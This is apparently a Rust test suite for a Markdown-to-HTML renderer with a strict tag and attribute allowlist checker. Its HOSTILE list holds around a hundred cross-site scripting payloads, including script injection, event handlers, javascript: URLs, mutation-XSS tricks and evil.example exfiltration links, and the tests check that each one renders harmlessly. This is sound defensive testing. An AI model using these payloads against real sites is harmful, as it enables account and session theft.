use std::time::{Duration, Instant};

use proptest::prelude::*;
use rstest::rstest;

use super::{Incremental, markdown};

#[rstest]
#[case("Hello there.", "<p>Hello there.</p>")]
#[case("one\ntwo", "<p>one<br>two</p>")]
#[case("*She smiles.* **Now!** ~~no~~", "<p><em>She smiles.</em> <strong>Now!</strong> <del>no</del></p>")]
#[case("\"Hi,\" she says.", "<p><span class=\"said\">\"Hi,\"</span> she says.</p>")]
#[case(
    "“Hi” «Salut» „Hallo“ 「やあ」",
    "<p><span class=\"said\">“Hi”</span> <span class=\"said\">«Salut»</span> <span class=\"said\">„Hallo“</span> <span class=\"said\">「やあ」</span></p>"
)]
#[case("\"A *very* long\" word", "<p><span class=\"said\">\"A <em>very</em> long\"</span> word</p>")]
#[case("*\"inside\"*", "<p><em><span class=\"said\">\"inside\"</span></em></p>")]
#[case("6'2\" tall and 5\" wide", "<p>6'2\" tall and 5\" wide</p>")]
#[case("\"not closed\nnext\" line", "<p>\"not closed<br>next\" line</p>")]
#[case("`\"code\"`", "<p><code>\"code\"</code></p>")]
#[case("# Title", "<h3>Title</h3>")]
#[case("###### Small", "<h6>Small</h6>")]
#[case("- [ ] a\n- [x] b", "<ul><li>☐ a</li><li>☑ b</li></ul>")]
#[case("3. three\n4. four", "<ol start=\"3\"><li>three</li><li>four</li></ol>")]
#[case("a <sighs> b </sighs>", "<p>a &lt;sighs&gt; b &lt;/sighs&gt;</p>")]
#[case("a < b > c & d", "<p>a &lt; b &gt; c &amp; d</p>")]
#[case("<b>bold</b> <blink>x</blink>", "<p><b>bold</b> &lt;blink&gt;x&lt;/blink&gt;</p>")]
#[case(
    "[1]: https://example.org",
    "<p>[1]: <a href=\"https://example.org\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">https://example.org</a></p>"
)]
#[case(
    "see https://example.org/a_b_c?x=1&y=2.",
    "<p>see <a href=\"https://example.org/a_b_c?x=1&amp;y=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">https://example.org/a_b_c?x=1&amp;y=2</a>.</p>"
)]
#[case(
    "(https://example.org/a(b))",
    "<p>(<a href=\"https://example.org/a(b)\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">https://example.org/a(b)</a>)</p>"
)]
#[case(
    "<ann@example.org>",
    "<p><a href=\"mailto:ann@example.org\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">ann@example.org</a></p>"
)]
#[case(
    "![a cat](https://pics.example/cat.png?who=me)",
    "<p><a href=\"https://pics.example/cat.png?who=me\" target=\"_blank\" rel=\"noopener noreferrer nofollow\" title=\"a cat\">picture: pics.example</a></p>"
)]
#[case(
    "<img src=https://pics.example/cat.png>",
    "<a href=\"https://pics.example/cat.png\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">picture: pics.example</a>"
)]
#[case("![hers](/api/v1/characters/Ann/picture)", "<p><img src=\"/api/v1/characters/Ann/picture\" alt=\"hers\"></p>")]
#[case("![x](//evil.example/a.png)", "<p>[picture: x]</p>")]
#[case("![x](data:image/png;base64,AAAA)", "<p>[picture: x]</p>")]
#[case(
    "| a | b |\n|--:|:-:|\n| 1 | 2 |",
    "<table><thead><tr><th align=\"right\">a</th><th align=\"center\">b</th></tr></thead><tbody><tr><td align=\"right\">1</td><td align=\"center\">2</td></tr></tbody></table>"
)]
#[case(
    "<details><summary>More</summary>\n\n*inside*\n\n</details>\n\nafter",
    "<details><summary>More</summary>\n<p><em>inside</em></p></details>\n<p>after</p>"
)]
#[case("```nonsense\na < b\n```", "<pre data-lang=\"nonsense\"><code>a &lt; b\n</code></pre>")]
#[case("", "")]
#[case(" \n\n ", "")]
fn looks(#[case] text: &str, #[case] html: &str) {
    assert_eq!(markdown(text), html);
}

#[test]
fn code_has_colours() {
    let html = markdown("```rust\nfn main() { let x = \"hi\"; } // end\n```");
    for part in ["hl-keyword", "hl-function", "hl-string", "hl-comment", "<pre data-lang=\"rust\">"] {
        assert!(html.contains(part), "{part} in {html}");
    }
    assert!(markdown("```ts\nconst a = 1;\n```").contains("hl-number"));
}

/// What attackers write, in Markdown, in HTML, and between the two.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"/img/x.png\" onerror=\"alert(1)\">",
    "<img src='/api/v1/x' onload=alert(1) style='position:fixed'>",
    "<img src=\"/img/../evil\" srcset=\"https://evil.example/x 1x\">",
    "<img src=\"/\\evil.example/x.png\">",
    "<img src=\"/\t/evil.example/x.png\">",
    "<img src=\"\u{1}/img/x.png\">",
    "<img src=\"https://a.example/\"><img src=\"https://b.example/'onerror=alert(1)//\">",
    "<img src=\"https://a.example/\" alt=\"<script>alert(1)</script>\">",
    "<img src=\"x\" alt=\"<img src=y onerror=alert(1)>\">",
    "<img alt='src=\"/img/a.png\" onerror=alert(1)' src='https://evil.example'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example)\">x</div>",
    "<p class=\"dialog-head\" id=\"main\" style=\"position:fixed;inset:0\">x</p>",
    "<span class=\"said sheet\">x</span>",
    "<form action=https://evil.example><input name=a><button formaction=javascript:alert(1)>x</button></form>",
    "<button onclick=alert(1)>x</button>",
    "<video src=https://evil.example/x.mp4 autoplay poster=https://evil.example/p.png></video>",
    "<audio src=https://evil.example/x.mp3 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"/api/v1/session\" ping=\"https://evil.example\" target=_self rel=opener>x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=x onmouseover=alert(1) autofocus onfocus=alert(1) tabindex=0>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover=alert(1)>",
    "[x](https://evil.example/\"onmouseover=\"alert(1))",
    "[x](https://evil.example \"t\" onmouseover=alert(1))",
    "[x](https://evil.example '\"onmouseover=alert(1)')",
    "[a]: javascript:alert(1)\n\n[a]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "![\"onerror=alert(1)](/img/x.png)",
    "![x](/img/x.png \"t\" onerror=alert(1))",
    "![x](/img/x.png'onerror=alert(1))",
    "![<script>alert(1)</script>](https://evil.example/x.png)",
    "![[x](javascript:alert(1))](https://evil.example/x.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "https://evil.example/<script>alert(1)</script>",
    "https://evil.example/'onmouseover='alert(1)",
    "https://evil.example/\"><script>alert(1)</script>",
    "\"<script>alert(1)</script>\"",
    "*\"<img src=x onerror=alert(1)>\"*",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<table background=javascript:alert(1)><td background=https://evil.example>x",
    "<td colspan=9999999 rowspan=99999>x</td>",
    "<isindex action=javascript:alert(1) type=image>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<plaintext><script>alert(1)</script>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html><head><script>alert(1)</script></head></html>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<\u{0}script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<x onclick=alert(1)>y</x>",
    "<a<b>c onmouseover=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img\u{c}src=x\u{c}onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<details>\n\n<script>\n\nalert(1)\n\n</script>\n\n</details>",
    "<div\n\nonclick=alert(1)>x</div>",
    "<a href=\"https://ok.example\"\nonclick=alert(1)\n>x</a>",
    "<tk-chat></tk-chat><tk-users>x</tk-users>",
    "<slot name=x></slot><dialog open>x</dialog>",
];

/// Reads HTML as strictly as it was written: only the elements and attributes that are let through, quoted, closed.
fn check_safe(html: &str, of: &str) {
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        let tag = &rest[at + 1..];
        let mut quoted = false;
        let end = tag.find(|c: char| {
            quoted ^= c == '"';
            c == '>' && !quoted
        });
        let end = end.unwrap_or_else(|| panic!("{html:?} of {of:?} has a tag that does not end"));
        check_tag(&tag[..end], html, of);
        rest = &tag[end + 1..];
    }
}

fn check_tag(tag: &str, html: &str, of: &str) {
    let tag = tag.strip_prefix('/').unwrap_or(tag);
    let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
    let known = [
        "a",
        "abbr",
        "b",
        "bdi",
        "blockquote",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "dd",
        "del",
        "details",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "rp",
        "rt",
        "ruby",
        "s",
        "samp",
        "small",
        "span",
        "strike",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "u",
        "ul",
        "var",
        "wbr",
    ];
    assert!(known.contains(&name), "<{name}> in {html:?} of {of:?}");
    while let Some((attribute, after)) = attributes.split_once("=\"") {
        let (value, next) = after.split_once('"').unwrap_or((after, ""));
        let value = value.replace("&amp;", "&");
        let fine = match (name, attribute.trim()) {
            ("a", "href") => {
                ["http://", "https://", "mailto:"].iter().any(|start| value.to_lowercase().starts_with(start))
            }
            ("a", "target") => value == "_blank",
            ("a", "rel") => value == "noopener noreferrer nofollow",
            ("img", "src") => {
                ["/api/v1/", "/user/images/", "/img/"].iter().any(|start| value.starts_with(start))
                    && !value.contains("..")
            }
            ("span", "class") => value.split(' ').all(|one| one.is_empty() || one == "said" || one.starts_with("hl-")),
            ("li", "class") => value == "task" || value.is_empty(),
            ("td" | "th", "align" | "colspan" | "rowspan") => value.len() <= 6,
            (_, "title" | "lang" | "dir" | "alt" | "start" | "open" | "data-lang") => true,
            _ => false,
        };
        assert!(fine, "{attribute}={value:?} on <{name}> in {html:?} of {of:?}");
        attributes = next;
    }
    assert_eq!(attributes.trim(), "", "{html:?} of {of:?}");
}

#[test]
fn what_attackers_write_stays_harmless() {
    for text in HOSTILE {
        check_safe(&markdown(text), text);
        for around in
            ["> ", "- ", "# ", "a\n\n", "<details>\n\n", "<b>", "*", "\"", "[x](", "![", "`", "| a |\n|---|\n| "]
        {
            let text = format!("{around}{text}");
            check_safe(&markdown(&text), &text);
        }
    }
}

/// Grows a text piece by piece, looks at it each time, and gives what it is in the end.
fn grow(text: &str, cuts: impl Iterator<Item = usize>) -> String {
    let mut growing = Incremental::default();
    let mut from = 0;
    for cut in cuts {
        growing.push(&text[from..cut]);
        from = cut;
        check_safe(&growing.html(), &text[..cut]);
    }
    growing.push(&text[from..]);
    growing.finish()
}

#[test]
fn cut_at_each_character_nothing_bad_is_ever_seen() {
    for text in HOSTILE {
        let text = format!("She said: \"hm\"\n\n{text}\n\n*and* left.");
        let cuts = text.char_indices().map(|(at, _)| at);
        assert_eq!(grow(&text, cuts), markdown(&text), "{text:?}");
    }
}

/// Pieces that mean something to Markdown, put together in any way.
const PIECES: &[&str] = &[
    "a",
    "word ",
    "\n",
    "\n\n",
    "    ",
    "\t",
    "- ",
    "* ",
    "1. ",
    "2) ",
    "> ",
    "# ",
    "```",
    "```rust\n",
    "~~~",
    "`",
    "*",
    "**",
    "_",
    "~~",
    "\"",
    "“",
    "”",
    "|",
    "|-|\n",
    "| a | b |\n",
    "---\n",
    "===\n",
    "[",
    "]",
    "(",
    ")",
    "[x]: /u\n",
    "[x](https://e.g)",
    "![i](https://e.g/p)",
    "<details>",
    "</details>",
    "<summary>s</summary>",
    "<div>\n",
    "</div>",
    "<b>",
    "</b>",
    "<!--",
    "-->",
    "<pre>",
    "</pre>",
    "<sigh>",
    "&amp;",
    "\\",
    "https://e.g/x ",
    "☃",
    "🍺",
    "\r\n",
    "\r",
    "[ ] ",
    "<table>",
    "<td>",
    "</table>",
    "<script>",
    "</script>",
    "<style>",
    "fn f() {}\n",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
    #[test]
    fn a_growing_text_ends_as_the_whole(pieces in prop::collection::vec(prop::sample::select(PIECES), 1..60), step in 1..7_usize) {
        let text: String = pieces.concat();
        let cuts: Vec<usize> = text.char_indices().map(|(at, _)| at).step_by(step).collect();
        let whole = markdown(&text);
        check_safe(&whole, &text);
        prop_assert_eq!(grow(&text, cuts.into_iter()), whole);
    }

    #[test]
    fn any_text_is_safe(text in "\\PC{0,200}") {
        check_safe(&markdown(&text), &text);
    }
}

#[test]
fn no_input_takes_long() {
    let shapes: &[(&str, String)] = &[
        ("quotes", ">".repeat(50_000)),
        ("quotes, spaced", "> ".repeat(50_000)),
        ("lists", "- ".repeat(50_000)),
        ("brackets", "[".repeat(100_000)),
        ("images", "![".repeat(50_000)),
        ("links", "[a](".repeat(25_000)),
        ("emphasis", "*a _b ".repeat(20_000)),
        ("stars", "*".repeat(100_000)),
        ("backticks", (1..400).map(|n| "`".repeat(n) + " ").collect()),
        ("tags", "<b>".repeat(33_000)),
        ("nested lists by tag", "<ul><li>".repeat(12_000)),
        ("tables by tag", "<table><tr><td>".repeat(6_000)),
        ("open comments", "<!--".repeat(25_000)),
        ("less-than", "<".repeat(100_000)),
        ("attributes", format!("<a {}>", "x=\"y\" ".repeat(16_000))),
        ("entities", "&amp".repeat(25_000)),
        ("table", format!("{}\n{}\n{}", "|a".repeat(5000), "|-".repeat(5000), "|\n".repeat(40_000))),
        ("quotation marks", "\"a ".repeat(30_000)),
        ("definitions", "[a]: /b\n".repeat(12_000)),
        ("addresses", "http://".repeat(14_000)),
        ("brackets after an address", format!("http://a{}", ")".repeat(100_000))),
        ("unknown tags", "<sigh>".repeat(16_000)),
        ("code", format!("```rust\n{}\n```", "fn f<'a>(x: &'a str) -> Vec<(u8, \"x\")> { r#\"\"# }\n".repeat(900))),
        ("code in one line", format!("```js\n{}\n```", "a/b/*".repeat(9_000))),
        ("blocks", "a\n\n".repeat(33_000)),
        ("italics by tag, crossed", "<b><i></b></i>".repeat(8_000)),
    ];
    for (what, text) in shapes {
        let begun = Instant::now();
        let html = markdown(text);
        assert!(begun.elapsed() < Duration::from_secs(4), "{what} took {:?}", begun.elapsed());
        assert!(html.len() < 60 * text.len() + 1000, "{what} became {} bytes", html.len());
        check_safe(&html, what);
    }
}

#[test]
fn a_text_beyond_the_limit_stays_as_it_is() {
    let text = format!("*a*\n<script>{}", "b".repeat(super::LIMIT));
    let html = markdown(&text);
    assert!(html.starts_with("<p>*a*<br>&lt;script&gt;b"));
    let mut growing = Incremental::default();
    growing.push(&text[..100]);
    assert!(growing.html().contains("<em>a</em>"));
    growing.push(&text[100..]);
    assert_eq!(growing.finish(), html);
}
